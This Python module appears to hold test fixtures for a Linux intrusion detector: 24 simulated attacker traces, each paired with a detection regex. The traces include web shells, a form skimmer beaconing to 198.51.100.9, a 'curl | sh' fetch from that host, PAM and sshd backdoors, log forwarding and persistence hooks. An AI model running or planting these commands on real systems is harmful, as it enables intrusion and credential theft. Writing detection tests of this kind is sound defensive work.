"""Traces written after the kinds of `fresh` were mended, and counted once: what to expect of what nobody thought of."""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_LISTEN = 'use IO::Socket; $s = IO::Socket::INET->new(Listen => 1, LocalPort => 50999, Proto => "tcp"); sleep 900031'

UNSEEN: tuple[Trace, ...] = (
    trace("U01", "hook", "put /etc/smartd.conf 'DEVICESCAN -m root -M exec /usr/lib/smart-alert'; prog /usr/lib/smart-alert", r"smartd\.conf"),
    trace("U02", "hook", "put /etc/keepalived/keepalived.conf 'vrrp_instance VI {\n  notify_master \"/usr/share/.ka/n\"\n}'; prog /usr/share/.ka/n", r"keepalived"),
    trace("U03", "login", "put /etc/gdm3/PostLogin/Default '#!/bin/sh\n/usr/lib/hwe-check &'; chmod 755 /etc/gdm3/PostLogin/Default", r"PostLogin"),
    trace("U04", "program", "prog /usr/lib/cups/backend/lpx", r"backend/lpx"),
    trace("U05", "login", "put /etc/lightdm/lightdm.conf.d/60-greeter.conf '[Seat:*]\ngreeter-setup-script=/var/lib/lightdm/.s'; prog /var/lib/lightdm/.s", r"60-greeter"),
    trace("U06", "container", "put /etc/docker/daemon.json '{\"runtimes\": {\"fast\": {\"path\": \"/usr/lib/docker/runx\"}}, \"default-runtime\": \"fast\"}'; prog /usr/lib/docker/runx", r"daemon\.json"),
    trace("U07", "xdg", "put /home/anna/.local/share/applications/firefox.desktop '[Desktop Entry]\nName=Firefox\nExec=/home/anna/.cache/ff %u'; prog /home/anna/.cache/ff", r"firefox\.desktop|/home/anna/\.cache/ff"),
    trace("U08", "editor", "put /root/.gdbinit 'shell /root/.config/.g &'; prog /root/.config/.g", r"\.gdbinit|/root/\.config/\.g\b"),
    trace("U09", "nginx", f"put /etc/nginx/snippets/php.conf 'fastcgi_param PHP_VALUE \"auto_prepend_file={_WEB}/wp-content/uploads/x.txt\";'", r"snippets/php\.conf"),
    trace("U10", "web", "put /srv/app/views.py 'import os\ndef v(request):\n    return os.popen(request.args.get(\"c\")).read()'", r"views\.py"),
    trace("U11", "web", "put /usr/lib/cgi-bin/stat.pl '#!/usr/bin/perl\nprint \"Content-type: text/plain\\n\\n\"; open(F, \"$ENV{QUERY_STRING}|\"); print <F>;'; chmod 755 /usr/lib/cgi-bin/stat.pl", r"cgi-bin/stat\.pl"),
    trace("U12", "process", f"run perl -e '{_LISTEN}'", r"50999|900031"),
    trace("U13", "process", "mkdir -p /var/tmp/.d9; (cd /var/tmp/.d9; run sleep 900032); sleep 0.2; rmdir /var/tmp/.d9", r"\.d9"),
    trace("U14", "ssh", "put /etc/ssh/sshd_config.d/90-lan.conf 'Match Address 198.51.100.9\n  PermitRootLogin yes\n  PasswordAuthentication yes'", r"90-lan\.conf"),
    trace("U15", "pam", "sed -i '1i auth sufficient pam_rootok.so' /etc/pam.d/login; old /etc/pam.d/login", r"pam\.d/login"),
    trace("U16", "package-manager", "put /etc/apt/apt.conf.d/80proxy 'Acquire::http::Proxy \"http://198.51.100.9:3128\";'", r"80proxy"),
    trace("U17", "logging", "put /etc/rsyslog.d/00-send.conf 'auth,authpriv.* @198.51.100.9:514'", r"00-send\.conf"),
    trace("U18", "program", "prog /lib/firmware/iwl7265.bin", r"iwl7265"),
    trace("U19", "interpreter", "put /usr/lib/python3/dist-packages/urllib4/__init__.py 'import os; os.system(\"/usr/lib/hwe-check &\")'", r"urllib4"),
    trace("U20", "account", "prog /usr/bin/gitsh2; usermod -s /usr/bin/gitsh2 anna", r"gitsh2"),
    trace("U21", "shell", "put /usr/share/bash-completion/completions/apt2 'curl -s http://198.51.100.9/c | sh'", r"completions/apt2"),
    trace("U22", "network", "mkdir -p /etc/systemd/resolved.conf.d; put /etc/systemd/resolved.conf.d/dns.conf '[Resolve]\nDNS=198.51.100.53\nDomains=~.'", r"resolved\.conf\.d"),
    trace("U23", "credential", "put /var/cache/man/.idx 'root:$6$aaaa$bbbb:20000:0:99999:7:::'", r"/var/cache/man/\.idx"),
    trace("U24", "web", f"put {_WEB}/js/cart2.js 'document.forms[0].addEventListener(\"submit\", function () {{ navigator.sendBeacon(\"//198.51.100.9/c\", new FormData(this)); }});'", r"cart2\.js"),
)  # fmt: skip
